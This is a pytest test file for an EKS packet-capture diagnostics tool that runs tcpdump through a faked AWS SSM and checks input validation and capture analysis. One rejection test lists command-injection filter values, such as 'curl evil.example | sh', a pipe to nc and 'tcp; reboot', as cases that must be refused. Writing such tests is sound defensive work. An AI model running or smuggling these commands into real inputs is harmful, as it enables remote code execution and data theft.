"""capture___tcpdump_capture and capture___tcpdump_analyze.

SendCommand goes to moto (which records the command) after ssm_fake.SsmFake has checked the request
against the SSM helper's real ssm/documents/packet-capture.yaml (declared parameters, allowedPattern),
as SSM does. moto's GetCommandInvocation always answers Success; other statuses come from the fake.
Summaries are the real tcpdump -nn -tt -v outputs under tests/ssm/data.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import boto3
import pytest
from eksdiag.capture import parameters

from tests.tools.ssm_fake import (
    CAPTURE_DOCUMENT,
    SsmFake,
    call,
    check_output,
    document_text,
    launch_node,
    launch_ssm_node,
    managed_tags,
    self_managed_tags,
)

REGION = "us-west-2"
DATA = Path(__file__).resolve().parents[1] / "ssm" / "data"

pytestmark = pytest.mark.skipif(
    document_text("packet-capture.yaml") is None, reason="needs ssm/documents/packet-capture.yaml (SSM helper)"
)


@pytest.fixture
def node(ec2: Any, fake: SsmFake) -> str:
    return launch_ssm_node(ec2, fake, self_managed_tags("demo"))


def capture(ctx: Any, args: Any) -> dict[str, Any]:
    return call(ctx, "capture", "tcpdump_capture", args)


def analyze(ctx: Any, args: Any) -> dict[str, Any]:
    return call(ctx, "capture", "tcpdump_analyze", args)


def upload_summary(ctx: Any, result: dict[str, Any], text: str) -> None:
    key = f"captures/{result['instanceId']}/{result['captureId']}/summary.txt"
    boto3.client("s3", region_name=REGION).put_object(Bucket=ctx.settings.bucket, Key=key, Body=text.encode())


def test_capture_sends_the_capture_document_with_parameters_only(ctx: Any, fake: SsmFake, node: str) -> None:
    args = {
        "instanceId": node,
        "interface": "eth0",
        "durationSeconds": 45,
        "maxPackets": 5000,
        "filter": "udp and port 53",
        "podNamespace": "kube-system",
        "podName": "coredns-5d78c9869d-abcde",
    }
    result = capture(ctx, args)

    check_output("capture", "tcpdump_capture", result)
    assert re.fullmatch(r"cap-[0-9]{14}-[0-9a-f]{8}", result["captureId"])
    assert result["pod"] == {"namespace": "kube-system", "name": "coredns-5d78c9869d-abcde"}
    assert result["pollAfterSeconds"] >= 45
    (request,) = fake.send_requests
    assert request["DocumentName"] == CAPTURE_DOCUMENT and request["InstanceIds"] == [node]
    params = request["Parameters"]
    assert {k: v[0] for k, v in params.items() if "Url" not in k} == {
        "Interface": "eth0",
        "DurationSeconds": "45",
        "MaxPackets": "5000",
        "Filter": "udp and port 53",
        "PodNamespace": "kube-system",
        "PodName": "coredns-5d78c9869d-abcde",
        "SseKmsKeyId": ctx.settings.kms_key_arn,
    }
    # the document's own parameters, every value its allowedPattern accepts; no shell text anywhere
    assert fake.documents[CAPTURE_DOCUMENT].problems(params) == []
    assert "commands" not in params
    # exactly two presigned PUTs, for the two keys of this capture, with SSE-KMS signed in
    prefix = f"captures/{node}/{result['captureId']}/"
    for name, file_name in (("UploadUrl", "capture.pcap"), ("SummaryUploadUrl", "summary.txt")):
        url = urlsplit(params[name][0])
        assert unquote(url.path).endswith("/" + prefix + file_name)
        query = parse_qs(url.query)
        assert "x-amz-server-side-encryption-aws-kms-key-id" in query["X-Amz-SignedHeaders"][0]
        assert int(query["X-Amz-Expires"][0]) <= 3600
    record = ctx.jobs.get_record("capture", result["captureId"])
    assert record["command_id"] == result["commandId"] and record["summary_key"] == prefix + "summary.txt"


def test_capture_defaults_capture_everything_on_any_interface(ctx: Any, fake: SsmFake, node: str) -> None:
    result = capture(ctx, {"instanceId": node})
    assert result["interface"] == "any" and result["filter"] == "" and result["durationSeconds"] == 30
    params = fake.send_requests[0]["Parameters"]
    assert params["Filter"] == [""] and params["PodName"] == [""]


@pytest.mark.parametrize(
    "bpf",
    [
        "tcp port 443",
        "udp and port 53",
        "host 10.0.1.5 and not port 22",
        "( tcp port 80 or tcp port 443 ) and net 10.0.0.0/16",
        "tcp[13] = 4",
        "icmp or arp",
    ],
)
def test_whitelisted_filters_pass_the_tool_and_the_document(ctx: Any, fake: SsmFake, node: str, bpf: str) -> None:
    result = capture(ctx, {"instanceId": node, "filter": bpf})
    assert result.get("filter") == bpf, result
    assert fake.documents[CAPTURE_DOCUMENT].problems(fake.send_requests[0]["Parameters"]) == []


@pytest.mark.parametrize(
    "bpf",
    [
        "tcp; reboot",
        "port 80\ncurl evil.example | sh",
        "$(id)",
        "`id`",
        "host 1.2.3.4 | nc 5.6.7.8 80",
        "tcp > /tmp/out",
        "tcp and 'port 80'",
        'tcp and "port 80"',
        "tcp # comment",
        "tcp\\ port",
        "tcp[tcpflags] & tcp-rst != 0",
        "tcp port 443 " * 30,
    ],
    ids=[
        "semicolon",
        "newline",
        "subshell",
        "backtick",
        "pipe",
        "redirect",
        "single-quote",
        "double-quote",
        "hash",
        "backslash",
        "ampersand",
        "too-long",
    ],
)
def test_filters_outside_the_bpf_whitelist_never_reach_ssm(ctx: Any, fake: SsmFake, node: str, bpf: str) -> None:
    error = capture(ctx, {"instanceId": node, "filter": bpf})["error"]
    assert error["code"] == "InvalidArgument"
    assert fake.send_requests == []
    # and the document itself would refuse it too (one source of truth: eksdiag.capture.parameters)
    assert not parameters.matches(parameters.BPF_FILTER, bpf) or len(bpf) > parameters.FILTER_MAX_CHARS


@pytest.mark.parametrize(
    "args",
    [
        {"interface": "eth0; ls"},
        {"interface": "a" * 16},
        {"interface": ""},
        {"interface": "eth0@if5"},
        {"durationSeconds": 0},
        {"durationSeconds": 301},
        {"durationSeconds": "30"},
        {"durationSeconds": True},
        {"maxPackets": 0},
        {"maxPackets": 100001},
        {"podName": "web-1"},
        {"podNamespace": "default"},
        {"podNamespace": "default", "podName": "Bad_Name"},
        {"podNamespace": "-bad", "podName": "web-1"},
        {"region": "me-south-1"},
        {"instanceId": "i-zzz"},
        {"command": "tcpdump -i any"},
    ],
    ids=[
        "iface-injection",
        "iface-long",
        "iface-empty",
        "iface-at",
        "duration-zero",
        "duration-high",
        "duration-string",
        "duration-bool",
        "packets-zero",
        "packets-high",
        "pod-without-namespace",
        "namespace-without-pod",
        "pod-name-invalid",
        "namespace-invalid",
        "region",
        "bad-instance",
        "unknown-argument",
    ],
)
def test_capture_rejects_bad_arguments(ctx: Any, fake: SsmFake, node: str, args: dict[str, Any]) -> None:
    error = capture(ctx, {"instanceId": node, **args})["error"]
    assert error["code"] == "InvalidArgument"
    assert fake.send_requests == []


def test_capture_refuses_non_eks_stopped_and_offline_nodes(ctx: Any, fake: SsmFake, ec2: Any) -> None:
    plain = launch_node(ec2, {"Name": "db"})
    fake.register_instance(plain)
    stopped = launch_node(ec2, managed_tags("demo"), state="stopped")
    fake.register_instance(stopped)
    offline = launch_node(ec2, managed_tags("demo"))
    fake.register_instance(offline, ping="ConnectionLost")
    assert capture(ctx, {"instanceId": plain})["error"]["code"] == "Forbidden"
    assert capture(ctx, {"instanceId": stopped})["error"]["code"] == "NotReady"
    assert capture(ctx, {"instanceId": offline})["error"]["code"] == "NotReady"
    assert fake.send_requests == []


# -- analyze -------------------------------------------------------------------------------------


def test_analyze_waits_while_the_capture_runs(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node, "durationSeconds": 60})
    fake.set_invocation(started["commandId"], node, "InProgress")
    result = analyze(ctx, {"captureId": started["captureId"]})
    check_output("capture", "tcpdump_analyze", result)
    assert result["done"] is False and 5 <= result["pollAfterSeconds"] <= 75 and "analysis" not in result


#: tcpdump -nn -tt -v text: two queries to CoreDNS, only the second answered, then a later packet.
DNS_ONE_UNANSWERED = """\
1795522987.000000 IP (tos 0x0, ttl 64, id 1, offset 0, flags [DF], proto UDP (17), length 61)
    10.1.0.1.43330 > 172.20.0.10.53: 4096+ A? api.example.com. (33)
1795522987.100000 IP (tos 0x0, ttl 64, id 2, offset 0, flags [DF], proto UDP (17), length 61)
    10.1.0.1.43331 > 172.20.0.10.53: 4097+ A? api.example.com. (33)
1795522987.200000 IP (tos 0x0, ttl 64, id 3, offset 0, flags [DF], proto UDP (17), length 77)
    172.20.0.10.53 > 10.1.0.1.43331: 4097 1/0/0 api.example.com. A 10.1.9.9 (49)
1795522990.000000 ARP, Ethernet (len 6), IPv4 (len 4), Request who-has 10.1.0.2 tell 10.1.0.1, length 28
"""


def test_analyze_reads_the_summary_and_reports_dns_without_answers(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node, "filter": "udp port 53"})
    upload_summary(ctx, started, DNS_ONE_UNANSWERED)
    result = analyze(ctx, {"captureId": started["captureId"], "instanceId": node})

    check_output("capture", "tcpdump_analyze", result)
    assert result["done"] is True and result["commandStatus"] == "Success" and "failureReason" not in result
    dns = result["analysis"]["dns"]
    assert dns["queries"] == 2 and dns["unanswered"] == 1
    assert dns["unanswered_by_server"] == [{"server": "172.20.0.10", "count": 1}]
    assert any(f["rule"] == "capture.dns.unanswered" for f in result["analysis"]["findings"])
    assert result["summaryTruncated"] is False


def test_analyze_reports_dns_failures_from_a_real_capture(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node, "filter": "udp port 53"})
    upload_summary(ctx, started, (DATA / "tcpdump-dns-v.txt").read_text())
    dns = analyze(ctx, {"captureId": started["captureId"]})["analysis"]["dns"]
    assert dns["queries"] > 0 and dns["rcodes"].get("NXDomain", 0) >= 1


def test_analyze_reports_resets_retransmissions_and_top_talkers(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node})
    upload_summary(ctx, started, (DATA / "tcpdump-tcp-v.txt").read_text())
    analysis = analyze(ctx, {"captureId": started["captureId"]})["analysis"]
    assert analysis["tcp"]["resets"] >= 1 and analysis["tcp"]["retransmissions"] >= 1
    assert analysis["top_talkers"]["by_source"][0]["bytes"] > 0


def test_any_capture_can_be_analysed_not_only_the_latest(ctx: Any, fake: SsmFake, node: str) -> None:
    older = capture(ctx, {"instanceId": node})
    newer = capture(ctx, {"instanceId": node})
    upload_summary(ctx, older, DNS_ONE_UNANSWERED)
    upload_summary(ctx, newer, "")
    result = analyze(ctx, {"captureId": older["captureId"]})
    assert result["done"] is True and result["analysis"]["dns"]["queries"] > 0


def test_a_failed_capture_is_done_with_the_node_error(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node, "podNamespace": "default", "podName": "web-1"})
    fake.set_invocation(
        started["commandId"],
        node,
        "Failed",
        StatusDetails="Failed",
        StandardErrorContent="EKSDIAG_ERROR: pod default/web-1 not found by crictl\n",
    )
    result = analyze(ctx, {"captureId": started["captureId"]})
    check_output("capture", "tcpdump_analyze", result)
    assert result["done"] is True and "pod default/web-1 not found" in result["failureReason"]


@pytest.mark.parametrize("status", ["TimedOut", "Cancelled"])
def test_timed_out_or_cancelled_captures_end(ctx: Any, fake: SsmFake, node: str, status: str) -> None:
    started = capture(ctx, {"instanceId": node})
    fake.set_invocation(started["commandId"], node, status)
    result = analyze(ctx, {"captureId": started["captureId"]})
    assert result["done"] is True and result["commandStatus"] == status and status in result["failureReason"]


def test_a_success_without_summary_says_so(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node})
    result = analyze(ctx, {"captureId": started["captureId"]})
    assert result["done"] is True and "summary.txt" in result["failureReason"] and "analysis" not in result


def test_a_long_summary_is_analysed_in_part(
    ctx: Any, fake: SsmFake, node: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from eksdiag.tools.capture import tcpdump_analyze

    monkeypatch.setattr(tcpdump_analyze, "MAX_SUMMARY_BYTES", 2000)
    started = capture(ctx, {"instanceId": node})
    upload_summary(ctx, started, (DATA / "tcpdump-tcp-v.txt").read_text())
    result = analyze(ctx, {"captureId": started["captureId"]})
    assert result["summaryTruncated"] is True and 0 < result["analysis"]["lines"] < 155


def test_analyze_checks_the_capture_belongs_to_the_instance(ctx: Any, fake: SsmFake, node: str) -> None:
    started = capture(ctx, {"instanceId": node})
    error = analyze(ctx, {"captureId": started["captureId"], "instanceId": "i-0123456789abcdef0"})["error"]
    assert error["code"] == "InvalidArgument"


@pytest.mark.parametrize(
    ("args", "code"),
    [
        ({"captureId": "cap-20260101000000-0badc0de"}, "NotFound"),
        ({"captureId": "cap-1"}, "InvalidArgument"),
        ({"captureId": "../captures/x"}, "InvalidArgument"),
        ({}, "InvalidArgument"),
        ({"captureId": "cap-20260101000000-0badc0de", "instanceId": "node-1"}, "InvalidArgument"),
        ({"commandId": "01234567-89ab-cdef-0123-456789abcdef"}, "InvalidArgument"),
    ],
    ids=["unknown", "short", "path", "missing", "bad-instance", "command-id-only"],
)
def test_analyze_rejects_bad_or_unknown_ids(ctx: Any, args: Any, code: str) -> None:
    assert analyze(ctx, args)["error"]["code"] == code


def test_the_tool_checks_with_the_very_patterns_the_document_declares(fake: SsmFake) -> None:
    declared = fake.documents[CAPTURE_DOCUMENT].parameters
    assert declared["Filter"]["allowedPattern"] == parameters.BPF_FILTER
    assert declared["Interface"]["allowedPattern"] == parameters.INTERFACE
    assert declared["PodName"]["allowedPattern"] == parameters.KUBERNETES_NAME
    assert declared["PodNamespace"]["allowedPattern"] == parameters.KUBERNETES_NAME
